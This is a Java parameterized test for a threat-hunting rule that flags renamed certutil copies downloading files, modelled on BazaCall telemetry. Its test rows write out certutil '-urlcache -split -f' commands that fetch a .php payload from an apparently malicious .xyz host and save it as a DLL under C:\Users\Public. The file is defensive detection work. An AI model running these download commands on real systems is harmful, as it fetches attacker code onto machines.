package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DeviceFileEvent;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The Sentinel certutil query, row by row, on DeviceFileEvents shaped like the BazaCall telemetry: the
 * rule file's compiled query (what the job runs) and the hand-written oracle agree on every row.
 */
class CertutilDownloadRuleTest {
    private static final dev.bazahunt.kql.CompiledQuery FAITHFUL =
            RuleCatalog.standard().compiledQuery(RuleIds.CERTUTIL_DOWNLOAD);

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "NULL", textBlock = """
            BazaCall renamed certutil copy  | x8k2.exe     | x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | true
            renamed copy in upper case      | X8K2.EXE     | X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP C:\\Users\\Public\\x8k2\\tmp1834.dll | true
            certutil under its own name     | CERTUTIL.EXE | certutil.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | false
            cmd.exe running the download    | Cmd.exe      | cmd.exe /c C:\\Users\\Public\\x8k2\\x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll | false
            https download                  | x8k2.exe     | x8k2.exe  -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | false
            no -split flag                  | x8k2.exe     | x8k2.exe  -urlcache -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | false
            slash-style /urlcache           | x8k2.exe     | x8k2.exe  /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | false
            split only in the URL path      | x8k2.exe     | x8k2.exe  -urlcache -f http://pshe0pxe339.xyz/split/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | true
            missing file name               | NULL         | x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | true
            missing command line            | x8k2.exe     | NULL | false
            ordinary file write by Excel    | EXCEL.EXE    | "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde | false
            """)
    void matchesExactlyTheSentinelQuery(String scenario, String fileName, String commandLine, boolean expected) {
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(1, fileName, commandLine);

        assertThat(FAITHFUL.matches(event)).as(scenario).isEqualTo(expected);
        assertThat(CertutilDownloadRule.matches(event)).as(scenario).isEqualTo(expected);
        assertThat(CertutilDownloadRule.matches(fileName, commandLine)).as(scenario).isEqualTo(expected);
    }
}
